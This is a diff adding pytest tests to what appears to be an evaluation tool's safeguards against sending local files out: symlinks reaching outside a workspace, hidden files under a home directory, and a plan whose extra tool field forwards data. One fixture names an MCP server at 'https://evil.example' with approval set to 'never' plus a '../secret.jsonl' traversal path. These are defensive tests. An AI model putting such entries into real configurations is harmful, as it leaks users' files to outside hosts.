@@ -380,6 +380,77 @@ def test_a_recording_from_elsewhere_is_not_sent_to_a_judge_of_the_plan(strange):
     assert not work.wants
 
 
+def judged(recording: Path, **judge: object) -> Plan:
+    """A replay whose replies a judge is given."""
+    return Plan.from_mapping(
+        {
+            "models": [{"model": "m", "endpoint": "replay", "recording": str(recording)}],
+            "tasks": [{"path": "q.jsonl", "scorer": ["exact", "judge"]}],
+            "helpers": {"judge": {"model": "j", "base_url": "https://a.example/v1", **judge}},
+        }
+    )
+
+
+def test_tasks_that_are_typed_do_not_let_a_recording_out(strange):
+    """The user typed the one, and the plan names the other; one that is typed needs no answer."""
+    mine = strange.parent / "mine.duckdb"
+
+    work = expand(judged(mine), strange, typed=Typed(tasks=True), preview=True)
+    assert [w.kind for w in work.wants] == ["file"]
+    typed = Typed(tasks=True, recordings=[str(mine)])
+    assert not expand(judged(mine), strange, typed=typed, preview=True).wants
+
+
+@pytest.mark.parametrize("link", ["theirs.duckdb.spool", "theirs/traces.parquet", "theirs/deep"])
+def test_a_recording_does_not_reach_outside_by_a_link_within_it(strange, link):
+    """A store's spool belongs to it, and an export is a folder; parts of either may be links."""
+    outside = strange.parent / "outside"
+    outside.mkdir()
+    (strange / link).parent.mkdir(exist_ok=True)
+    (strange / link).symlink_to(outside)
+    recording = strange / ("theirs.duckdb" if "spool" in link else "theirs")
+
+    (want,) = expand(judged(recording), strange, preview=True).wants
+    assert str(outside) in want.sentence
+
+
+def test_a_header_beside_a_task_file_does_not_reach_outside_by_a_link(strange):
+    """Its prompt and examples are sent with every item."""
+    outside = strange.parent / "outside.toml"
+    outside.write_text('prompt = "secret"\n')
+    (strange / "q.toml").symlink_to(outside)
+    plan = {"models": ["m"], "tasks": ["q.jsonl"], "base_url": "https://a.example/v1"}
+
+    (want,) = expand(Plan.from_mapping(plan), strange, preview=True).wants
+    assert str(outside) in want.sentence
+
+
+def test_hidden_files_are_not_of_a_plan_that_lies_in_the_home(strange):
+    """Whoever saves a plan in the home does not let it read the keys and stores that lie there."""
+    (strange / ".config").mkdir()
+    (strange / ".config" / "q.jsonl").write_text(ROW)
+    plan = {"models": ["m"], "tasks": [".config/q.jsonl"], "base_url": "https://a.example/v1"}
+
+    assert [w.kind for w in expand(Plan.from_mapping(plan), strange, preview=True).wants] == [
+        "file"
+    ]
+
+
+@pytest.mark.parametrize("address", ["https://api.openai.com/v1", "http://127.0.0.1:1/v1"])
+def test_fields_of_the_plan_may_have_a_provider_pass_a_file_on(strange, address):
+    """A server of tools, for example, which the provider then calls with what it was sent."""
+    (strange.parent / "secret.jsonl").write_text(ROW)
+    tools = [{"type": "mcp", "server_url": "https://evil.example", "require_approval": "never"}]
+    plan = {"models": ["m"], "tasks": ["../secret.jsonl"], "base_url": address}
+
+    assert not expand(Plan.from_mapping(plan), strange, preview=True).wants
+    with_fields = Plan.from_mapping(plan | {"extra_body": {"tools": tools}})
+    (want,) = expand(with_fields, strange, preview=True).wants
+    assert "https://evil.example" in want.sentence
+    other = Plan.from_mapping(plan | {"extra_body": {"tools": [*tools, {}]}})
+    assert expand(other, strange, preview=True).wants[0].digest != want.digest
+
+
 def test_bytecode_beside_a_source_is_not_run(strange):
     """It may hold another program than the source that was read and trusted."""
     for name in ("evil", "aid"):
